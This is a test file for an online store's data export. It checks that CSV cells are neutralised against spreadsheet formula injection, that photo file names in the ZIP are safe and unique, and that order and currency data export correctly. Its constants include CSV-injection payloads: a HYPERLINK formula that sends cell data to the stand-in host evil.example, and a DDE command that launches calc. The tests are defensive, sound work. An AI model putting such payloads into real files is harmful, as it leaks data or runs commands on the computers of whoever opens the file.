/**
 * What the export's files say, and that no cell of them runs in a spreadsheet: a shopper's formula in a buyer
 * name or note, an imported product's `@SUM(A1)`, arrive as text (OWASP's CSV injection rule); pedidos.csv has
 * the delivery address as the order stored it and every amount beside its own currency; photos are named by
 * the product's code and name, safe for any file system and each once.
 */
import { env } from "cloudflare:workers";
import { unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { parseCsv } from "../../worker/lib/catalogue-csv";
import { csvCell, toCsv } from "../../worker/lib/csv";
import { exportKey } from "../../worker/lib/data-export";
import { safeFileName, UniquePaths } from "../../worker/lib/data-export-files";
import { realStoreCheckout } from "../fixtures/real-store";
import { Browser } from "./browser";
import { builtExport } from "./export-helpers";
import { addProducts, seller, setPricing } from "./store-helpers";

beforeAll(() => {
  const print = console.log;
  vi.spyOn(console, "log").mockImplementation((...args: unknown[]) => {
    if (!(typeof args[0] === "string" && args[0].includes("[outbox]"))) print(...args);
  });
});
afterAll(() => vi.restoreAllMocks());

const HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A1,"Ver pedido")';
const CALC = "+cmd|' /C calc'!A0";

/** The seller's export, built through the queue as in production, unzipped. */
async function exportOf(userId: string) {
  const exportId = await builtExport(userId);
  const files = unzipSync(new Uint8Array(await (await env.DATA.get(exportKey(userId, exportId)))!.arrayBuffer()));
  const text = (name: string) => new TextDecoder().decode(files[name]);
  return { files, text, csv: (name: string) => parseCsv(text(name)) };
}

describe("a CSV cell", () => {
  it("starting with = + - @, a tab or a carriage return gets one quote in front, and quotes where CSV needs them", () => {
    expect(csvCell(HYPERLINK)).toBe(`"'=HYPERLINK(""http://evil.example/x?""&A1,""Ver pedido"")"`);
    expect(csvCell(CALC)).toBe("'+cmd|' /C calc'!A0");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\t=1+1")).toBe("'\t=1+1");
    expect(csvCell("\r=1+1")).toBe(`"'\r=1+1"`);
    // Anything else is as typed; the app's own numbers stay numbers (a debit of -1 credit is not a formula).
    expect(csvCell("Remera lisa; talle M")).toBe('"Remera lisa; talle M"');
    expect(csvCell("Av. Santa Fe 3253 🏠")).toBe("Av. Santa Fe 3253 🏠");
    expect(csvCell(" =1+1")).toBe(" =1+1");
    expect(csvCell(-1)).toBe("-1");
    expect(csvCell(null)).toBe("");
    // And parses back to the neutralised text, one quote in front.
    expect(parseCsv(toCsv(["Nombre"], [[HYPERLINK], ["\r=1+1"]]))).toEqual([["Nombre"], [`'${HYPERLINK}`], ["'\r=1+1"]]);
  });
});

describe("a photo's name in the ZIP", () => {
  it("is readable, safe on every file system and unique, ignoring case", () => {
    expect(safeFileName("K7P2 Remera lisa blanca")).toBe("K7P2 Remera lisa blanca");
    expect(safeFileName('K7P2 Buzo 1/2 "cierre": ¿talle? <M>|L*')).toBe("K7P2 Buzo 1 2 cierre ¿talle M L");
    // Invisible characters (a right-to-left override that would show "gpj.exe" as "exe.jpg") and controls go.
    expect(safeFileName("K7P2 Remera\u202Egpj.exe\u0000\u200B")).toBe("K7P2 Remeragpj.exe");
    expect(safeFileName("...")).toBe("producto");
    expect(Array.from(safeFileName(`K7P2 ${"🧶".repeat(200)}`))).toHaveLength(80);
    const paths = new UniquePaths();
    expect([
      paths.path("fotos", "K7P2 Remera", "jpg"),
      paths.path("fotos", "k7p2 remera", "jpg"),
      paths.path("fotos", "K7P2 Remera", "jpg"),
    ]).toEqual(["fotos/K7P2 Remera.jpg", "fotos/k7p2 remera (2).jpg", "fotos/K7P2 Remera (3).jpg"]);
  });
});

describe("the export's files", () => {
  it("hold a shopper's formulas and imported product names as text, in pedidos.csv, lineas-de-pedidos.csv and productos.csv", async () => {
    const s = await seller({ phoneNumber: "11 5555-1234" });
    expect((await s.browser.json("PUT", "/api/checkout-settings", realStoreCheckout())).status).toBe(200);
    const [sum, minus, remera, twin] = await addProducts(s.browser, ["Suma", "Resta", "Remera lisa blanca", "Remera lisa blanca"]);
    // Names as a catalogue import can bring them (the upload names products after their files, which these are not).
    for (const [product, name] of [
      [sum!, "@SUM(A1)"],
      [minus!, "-2+3"],
    ] as const)
      await env.DB.prepare("UPDATE products SET name = ?1 WHERE id = ?2").bind(name, product.id).run();
    const priced = await setPricing(
      s.browser,
      [sum!, minus!, remera!, twin!].map((p) => ({ id: p.id, price: "12.500", sizes: [{ name: "M", stock: 5 }] })),
    );
    expect(priced.status).toBe(200);
    const address = { street: "=1+2 Av. Santa Fe 3253 🏠", locality: "Palermo, CABA", reference: "@timbre «B»" };
    const placed = await new Browser().json("POST", "/api/orders", {
      username: s.username,
      lines: [{ productId: minus!.id, size: "M", quantity: 2 }],
      buyer: {
        name: HYPERLINK,
        note: CALC,
        delivery: "envio",
        zone: "CABA",
        payment: "transferencia",
        whatsapp: "+54 9 11 5555-1234",
        address,
      },
    });
    expect(placed.status, await placed.clone().text()).toBe(201);
    const { order } = (await placed.json()) as { order: { code: string } };

    const { csv, text, files } = await exportOf(s.user.id);
    // No cell of any CSV starts with a character that makes it a formula.
    for (const name of ["productos.csv", "pedidos.csv", "lineas-de-pedidos.csv", "clientes.csv", "creditos.csv"]) {
      for (const row of csv(name)) for (const cell of row) expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/);
    }
    const [header, row] = csv("pedidos.csv");
    const at = (column: string) => row![header!.indexOf(column)];
    expect(at("Comprador")).toBe(`'${HYPERLINK}`);
    expect(at("Nota")).toBe(`'${CALC}`);
    expect(text("pedidos.csv")).toContain(`"'=HYPERLINK(""http://evil.example/x?""&A1,""Ver pedido"")"`);
    // The delivery address as the order stored it (neutralised where it too starts like a formula).
    expect([at("Calle y número"), at("Localidad"), at("Referencia"), at("Zona")]).toEqual([
      `'${address.street}`,
      address.locality,
      `'${address.reference}`,
      "CABA",
    ]);
    expect([at("Moneda"), at("Costo de envío"), at("Subtotal"), at("Total")]).toEqual(["ARS", "3500", "25000", "28500"]);
    expect(csv("lineas-de-pedidos.csv")[1]).toEqual([order.code, "'-2+3", "", "M", "2", "ARS", "12500", "25000"]);
    // The buyer in the customer list, by their WhatsApp, with what they spent in its currency.
    expect(csv("clientes.csv").slice(1)).toEqual([
      [`'${HYPERLINK}`, "'+54 9 11 5555-1234", "1", "ARS", "28500", order.code, expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d/)],
    ]);

    const productos = csv("productos.csv");
    const names = productos.slice(1).map((r) => r[1]);
    expect(names).toEqual(expect.arrayContaining(["'@SUM(A1)", "'-2+3", "Remera lisa blanca"]));

    // Photos by the product's code and name; the two "Remera lisa blanca" each their own file.
    const codes = await env.DB.prepare("SELECT name, code FROM products WHERE user_id = ? ORDER BY created_at, rowid")
      .bind(s.user.id)
      .all<{ name: string; code: string }>();
    const photos = Object.keys(files)
      .filter((n) => n.startsWith("fotos/originales/"))
      .map((n) => n.replace(/\.\w+$/, ""))
      .sort();
    expect(photos).toEqual(codes.results.map((p) => `fotos/originales/${p.code} ${p.name}`).sort());
    expect(new Set(photos).size).toBe(4);
  });

  it("writes a Brazilian store's amounts in reais with their currency, and its address fields", async () => {
    const s = await seller({ phoneNumber: "+55 11 98765-4321", countryCode: "BR" });
    expect((await s.browser.json("PUT", "/api/store-locale", { currency: "BRL", locale: "pt-BR" })).status).toBe(200);
    const saved = await s.browser.json("PUT", "/api/checkout-settings", {
      delivery: {
        pickup: { enabled: false, address: "" },
        shipping: { enabled: true, zones: [{ name: "Centro", cost: "15,00" }], freeFrom: null },
      },
      payMethods: [{ kind: "pix", keyType: "email", key: "vendas@lojadaana.com.br", name: "Loja da Ana", city: "São Paulo" }],
    });
    expect(saved.status, await saved.clone().text()).toBe(200);
    const [camiseta] = await addProducts(s.browser, ["Camiseta Açaí"]);
    expect(
      (await setPricing(s.browser, [{ id: camiseta!.id, price: "129,90", sizes: [{ name: "M", stock: 5 }], published: true }])).status,
    ).toBe(200);
    const address = { street: "Rua Augusta 1500, ap. 12", locality: "São Paulo - SP", reference: "Portão azul", postalCode: "01310100" };
    const placed = await new Browser().json("POST", "/api/orders", {
      username: s.username,
      lines: [{ productId: camiseta!.id, size: "M", quantity: 2 }],
      buyer: { name: "João Conceição", delivery: "envio", zone: "Centro", payment: "pix", address },
    });
    expect(placed.status, await placed.clone().text()).toBe(201);

    const { csv } = await exportOf(s.user.id);
    const [header, row] = csv("pedidos.csv");
    const at = (column: string) => row![header!.indexOf(column)];
    // The CEP as Brazil writes it, whatever the buyer typed.
    expect([at("Calle y número"), at("Localidad"), at("Código postal"), at("Referencia")]).toEqual([
      address.street,
      address.locality,
      "01310-100",
      address.reference,
    ]);
    expect([at("Moneda"), at("Costo de envío"), at("Subtotal"), at("Total")]).toEqual(["BRL", "15.00", "259.80", "274.80"]);
    expect(csv("lineas-de-pedidos.csv")[1]!.slice(4)).toEqual(["2", "BRL", "129.90", "259.80"]);
    expect(csv("clientes.csv")[1]!.slice(0, 5)).toEqual(["João Conceição", "", "1", "BRL", "274.80"]);
  });
});
